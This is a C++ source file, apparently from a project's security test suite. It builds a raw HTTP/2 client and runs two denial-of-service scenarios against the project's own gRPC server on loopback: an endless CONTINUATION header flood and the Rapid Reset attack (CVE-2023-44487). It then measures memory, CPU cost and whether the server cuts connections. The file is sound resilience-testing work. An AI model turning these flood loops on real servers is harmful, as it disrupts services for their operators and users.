// Attacks on HTTP/2 itself, below all that the protocol knows.
#include <arpa/inet.h>
#include <fcntl.h>
#include <malloc.h>
#include <netinet/in.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <csignal>

#include "tests/security/hostile_client/scenarios.h"

namespace causeway::hostile {
namespace {

enum class FrameType : uint8_t {
  kData = 0,
  kHeaders = 1,
  kReset = 3,
  kSettings = 4,
  kContinuation = 9
};
constexpr uint8_t kEndStream = 1;
constexpr uint8_t kEndHeaders = 4;

constexpr int kPatienceMs = 10'000;
constexpr char kPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr unsigned char kProtocols[] = {2, 'h', '2'};

void AppendBigEndian(uint32_t value, int bytes, std::string& out) {
  for (int i = bytes - 1; i >= 0; --i) out.push_back(static_cast<char>(value >> (8 * i)));
}

// HPACK's integer of seven bits, and the bytes.
void AppendString(absl::string_view text, std::string& out) {
  constexpr size_t kPrefix = 127;
  size_t size = text.size();
  if (size < kPrefix) {
    out.push_back(static_cast<char>(size));
  } else {
    out.push_back(static_cast<char>(kPrefix));
    for (size -= kPrefix; size >= 128; size /= 128) {
      out.push_back(static_cast<char>(size % 128 + 128));
    }
    out.push_back(static_cast<char>(size));
  }
  out.append(text.data(), text.size());
}

// One frame, payload included.
std::string Frame(FrameType type, uint8_t flags, uint32_t stream, absl::string_view payload) {
  std::string frame;
  AppendBigEndian(static_cast<uint32_t>(payload.size()), 3, frame);
  frame.push_back(static_cast<char>(type));
  frame.push_back(static_cast<char>(flags));
  AppendBigEndian(stream, 4, frame);
  frame.append(payload.data(), payload.size());
  return frame;
}

// A header without compression, not to be remembered.
std::string Header(absl::string_view name, absl::string_view value) {
  std::string out(1, '\0');
  AppendString(name, out);
  AppendString(value, out);
  return out;
}

// Begins every call: a POST of that method.
std::string CallHeaders(absl::string_view method) {
  return absl::StrCat(Header(":method", "POST"), Header(":scheme", "https"),
                      Header(":path", method), Header(":authority", "localhost"),
                      Header("te", "trailers"), Header("content-type", "application/grpc"));
}

// A client that speaks HTTP/2 as no library would: frames as they are written, no limit kept, and
// nothing read unless it is asked for. One connection over TLS. Not thread-safe.
class RawHttp2 {
 public:
  // Connects to that port of this machine, with the certificate of `security` if it has one, and
  // says the preface, with empty settings. UNAVAILABLE where that fails.
  static absl::StatusOr<std::unique_ptr<RawHttp2>> Open(int port, const SecurityOptions& security) {
    // A connection that the other side ends is an answer here.
    std::signal(SIGPIPE, SIG_IGN);
    const int connection = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address = {};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<uint16_t>(port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    SSL_CTX* const context = SSL_CTX_new(TLS_client_method());
    SSL* const ssl = SSL_new(context);
    std::unique_ptr<RawHttp2> client(new RawHttp2(connection, context, ssl));
    if (!security.cert_file.empty() &&
        (SSL_use_certificate_file(ssl, security.cert_file.c_str(), SSL_FILETYPE_PEM) != 1 ||
         SSL_use_PrivateKey_file(ssl, security.key_file.c_str(), SSL_FILETYPE_PEM) != 1)) {
      return absl::InternalError("the certificate is not taken");
    }
    SSL_set_alpn_protos(ssl, kProtocols, sizeof(kProtocols));
    SSL_set_fd(ssl, connection);
    if (connect(connection, reinterpret_cast<const sockaddr*>(&address), sizeof(address)) != 0 ||
        SSL_connect(ssl) != 1 || fcntl(connection, F_SETFL, O_NONBLOCK) != 0) {
      return absl::UnavailableError("no TLS connection to the coordinator");
    }
    if (!client->Send(absl::StrCat(kPreface, Frame(FrameType::kSettings, 0, 0, "")))) {
      return absl::UnavailableError("the connection ended at once");
    }
    return client;
  }
  ~RawHttp2() {
    SSL_free(ssl_);
    SSL_CTX_free(context_);
    close(socket_);
  }
  RawHttp2(const RawHttp2&) = delete;
  RawHttp2& operator=(const RawHttp2&) = delete;

  // False: the other side has ended the connection. Waits until TCP takes the bytes, at most
  // ten seconds, after which it is false, too.
  bool Send(absl::string_view bytes) {
    while (!bytes.empty()) {
      size_t sent = 0;
      const int result = SSL_write_ex(ssl_, bytes.data(), bytes.size(), &sent);
      if (result == 1) {
        bytes.remove_prefix(sent);
        continue;
      }
      if (!Wait(result)) return false;
    }
    return true;
  }
  // Throws away what has come. False as Send.
  bool Drain() {
    char buffer[1 << 16];
    for (;;) {
      size_t got = 0;
      const int result = SSL_read_ex(ssl_, buffer, sizeof(buffer), &got);
      if (result == 1) continue;
      return SSL_get_error(ssl_, result) == SSL_ERROR_WANT_READ;
    }
  }
  // Reads frames up to one that ends that stream. False as Send.
  bool AwaitAnswer(uint32_t stream) {
    constexpr size_t kFrameHeader = 9;
    for (;;) {
      uint8_t header[kFrameHeader];
      if (!Read(reinterpret_cast<char*>(header), kFrameHeader)) return false;
      std::string payload((size_t{header[0]} << 16) + (size_t{header[1]} << 8) + header[2], ' ');
      if (!Read(payload.data(), payload.size())) return false;
      uint32_t of = 0;
      for (size_t i = 5; i < kFrameHeader; ++i) of = (of << 8) + header[i];
      if (of == stream && (header[4] & kEndStream) != 0) return true;
    }
  }
  // Reads until the other side ends the connection, at most until then. False: it goes on.
  bool AwaitEnd(absl::Time until) {
    while (Drain()) {
      const int64_t left_ms = absl::ToInt64Milliseconds(until - absl::Now());
      pollfd poll_for = {.fd = socket_, .events = POLLIN, .revents = 0};
      if (left_ms <= 0 || poll(&poll_for, 1, static_cast<int>(left_ms)) == 0) return false;
    }
    return true;
  }

 private:
  RawHttp2(int socket, SSL_CTX* context, SSL* ssl)
      : socket_(socket), context_(context), ssl_(ssl) {}
  // Waits for the socket. False: too long, or it is not the socket that the call waits for.
  bool Wait(int result) const {
    const int error = SSL_get_error(ssl_, result);
    if (error != SSL_ERROR_WANT_READ && error != SSL_ERROR_WANT_WRITE) return false;
    const auto events = static_cast<int16_t>(error == SSL_ERROR_WANT_READ ? POLLIN : POLLOUT);
    pollfd poll_for = {.fd = socket_, .events = events, .revents = 0};
    return poll(&poll_for, 1, kPatienceMs) > 0;
  }
  // Reads so many bytes. False as Send.
  bool Read(char* bytes, size_t count) {
    while (count > 0) {
      size_t got = 0;
      const int result = SSL_read_ex(ssl_, bytes, count, &got);
      if (result == 1) {
        bytes += got;
        count -= got;
        continue;
      }
      if (!Wait(result)) return false;
    }
    return true;
  }

  const int socket_;
  SSL_CTX* const context_;
  SSL* const ssl_;
};

constexpr char kDescribe[] = "/causeway.v1.Session/Describe";
constexpr absl::Duration kAttack = absl::Seconds(5);
constexpr int64_t kFloodedRounds = 3;

int64_t MemoryInUse() {
  const struct mallinfo2 info = mallinfo2();
  return static_cast<int64_t>(info.uordblks + info.hblkhd);
}

double CpuSeconds(int who) {
  rusage usage = {};
  getrusage(who, &usage);
  const auto seconds = [](const timeval& time) {
    return static_cast<double>(time.tv_sec) + 1e-6 * static_cast<double>(time.tv_usec);
  };
  return seconds(usage.ru_utime) + seconds(usage.ru_stime);
}

std::string MiB(int64_t bytes) { return absl::StrCat(bytes >> 20, " MiB"); }

// Counts what an attack cost the process, without the threads that attack.
struct Cost {
  int64_t memory = 0;  // The most at once.
  double cpu_seconds = 0;
};

// Runs the attacks, each on a thread of its own, and an honest round after the other meanwhile.
absl::StatusOr<Cost> Attack(Team& team, int64_t first_round,
                            const std::vector<std::function<void()>>& attacks) {
  std::atomic<int> left = static_cast<int>(attacks.size());
  std::atomic<double> attackers_cpu = 0;
  const int64_t memory_before = MemoryInUse();
  const double cpu_before = CpuSeconds(RUSAGE_SELF);
  Cost cost;
  std::vector<std::thread> threads;
  for (const std::function<void()>& attack : attacks) {
    threads.emplace_back([&] {
      attack();
      attackers_cpu += CpuSeconds(RUSAGE_THREAD);
      --left;
    });
  }
  std::thread watch([&] {
    while (left > 0) {
      cost.memory = std::max(cost.memory, MemoryInUse() - memory_before);
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
  });
  absl::Status played;
  for (int64_t round = first_round; played.ok() && round < first_round + kFloodedRounds; ++round) {
    played = team.DoRound(round);
  }
  for (std::thread& thread : threads) thread.join();
  watch.join();
  RETURN_IF_ERROR(played);
  cost.cpu_seconds = CpuSeconds(RUSAGE_SELF) - cpu_before - attackers_cpu;
  return cost;
}

int PortOf(const Run& run) {
  const std::string address = run.address();
  return std::stoi(address.substr(address.rfind(':') + 1));
}

// Headers that never end, over many connections, of a client that acknowledges no limit and has no
// credentials: tokens are asked for once the headers are whole.
absl::StatusOr<Outcome> EndlessHeaders() {
  constexpr int kConnections = 16;
  constexpr size_t kValueBytes = 16000;
  constexpr int64_t kMost = int64_t{64} << 20;  // Bytes on one connection, if nobody ends it.
  Credentials credentials;
  Run run({.server = credentials.Server([&](server::CoordinatorServer::Options& options) {
    options.security.ca_file.clear();
    options.security.token_file = credentials.tokens();
  })});
  RETURN_IF_ERROR(run.Start());
  Team team(run, [&](const std::string& id) { return credentials.Token(run, id); });
  RETURN_IF_ERROR(team.Enter());
  std::atomic<int> ended = 0;
  const auto attack = [&] {
    const auto connection = RawHttp2::Open(PortOf(run), {});
    if (!connection.ok()) return;
    const absl::Time began = absl::Now();
    (*connection)->Send(Frame(FrameType::kHeaders, 0, 1, CallHeaders(kDescribe)));
    const std::string value(kValueBytes, 'v');
    bool open = true;
    for (int64_t sent = 0; open && sent < kMost && absl::Now() - began < kAttack;) {
      open =
          (*connection)
              ->Send(Frame(FrameType::kContinuation, 0, 1, Header(absl::StrCat("k", sent), value)));
      sent += kValueBytes;
    }
    ended += !open || (*connection)->AwaitEnd(began + kAttack);
  };
  const absl::StatusOr<Cost> cost =
      Attack(team, 1, std::vector<std::function<void()>>(kConnections, attack));
  RETURN_IF_ERROR(cost.status());
  const absl::Status same = CompareWithAlone(run, {}, kFloodedRounds);
  return Outcome{.held = same.ok() && ended == kConnections,
                 .what = absl::StrCat(ended.load(), " of ", kConnections,
                                      " connections were ended, ", MiB(cost->memory), " at once; ",
                                      same.ok() ? "the bits of the honest run" : same.message())};
}

// Streams that are opened and reset at once (CVE-2023-44487).
absl::StatusOr<Outcome> RapidReset() {
  Credentials credentials;
  Run run({.server = credentials.Server([&](server::CoordinatorServer::Options& options) {
    options.security.token_file = credentials.tokens();
  })});
  RETURN_IF_ERROR(run.Start());
  Team team(run, [&](const std::string& id) { return credentials.Certificate(run, id); });
  RETURN_IF_ERROR(team.Enter());
  const PemPair member = IssueIdentity(credentials.authority(), "causeway://*/worker/guest");
  const SecurityOptions with_certificate =
      credentials.folder().WriteSet("guest", credentials.authority().pem(), member);
  struct Kind {
    const char* name;
    SecurityOptions security;
    bool admitted;  // It has shown who it is by a call before.
    bool reads;
    bool must_end;  // Else it depends on how much the link carries.
  };
  const Kind kinds[] = {{"a stranger where there are tokens", {}, false, true, true},
                        {"a member whose calls are all reset", with_certificate, false, true, true},
                        {"a member that does not read", with_certificate, true, false, false},
                        {"a member that reads", with_certificate, true, true, false}};
  Outcome outcome = {.held = true};
  int64_t round = 1;
  for (const Kind& kind : kinds) {
    std::atomic<int64_t> resets = 0;
    std::atomic<bool> ended = false;
    const auto attack = [&] {
      const auto connection = RawHttp2::Open(PortOf(run), kind.security);
      if (!connection.ok()) return;
      const std::string headers = CallHeaders(kDescribe);
      const std::string why("\0\0\0\x08", 4);
      const absl::Time began = absl::Now();
      if (kind.admitted) {
        // An empty message, which is answered after it was admitted.
        (*connection)
            ->Send(absl::StrCat(Frame(FrameType::kHeaders, kEndHeaders, 1, headers),
                                Frame(FrameType::kData, kEndStream, 1, std::string(5, '\0'))));
        if (!(*connection)->AwaitAnswer(1)) return;
      }
      for (uint32_t stream = 3; !ended && absl::Now() - began < kAttack;) {
        std::string many;
        for (int i = 0; i < 100; ++i, stream += 2) {
          absl::StrAppend(&many, Frame(FrameType::kHeaders, kEndHeaders, stream, headers),
                          Frame(FrameType::kReset, 0, stream, why));
        }
        ended = !(*connection)->Send(many) || (kind.reads && !(*connection)->Drain());
        resets += 100;
      }
    };
    const absl::StatusOr<Cost> cost = Attack(team, round, {attack});
    round += kFloodedRounds;
    RETURN_IF_ERROR(cost.status());
    outcome.held = outcome.held && (ended || !kind.must_end);
    outcome.table.push_back(
        absl::StrCat(kind.name, ": ", resets.load(), " resets, ",
                     static_cast<int>(1e6 * cost->cpu_seconds / static_cast<double>(resets)),
                     " us of a core each (the rounds included), ", MiB(cost->memory), " at once, ",
                     ended ? "ended" : "goes on"));
  }
  const absl::Status same = CompareWithAlone(run, {}, round - 1);
  outcome.held = outcome.held && same.ok();
  outcome.what = same.ok() ? "the bits of the honest run" : std::string(same.message());
  return outcome;
}

}  // namespace

std::vector<Scenario> Http2Scenarios() {
  return {
      {"endless_headers", "16 strangers send headers of 64 MiB and acknowledge no limit",
       EndlessHeaders},
      {"rapid_reset", "streams are opened and reset for 5 s, as fast as they go", RapidReset},
  };
}

}  // namespace causeway::hostile
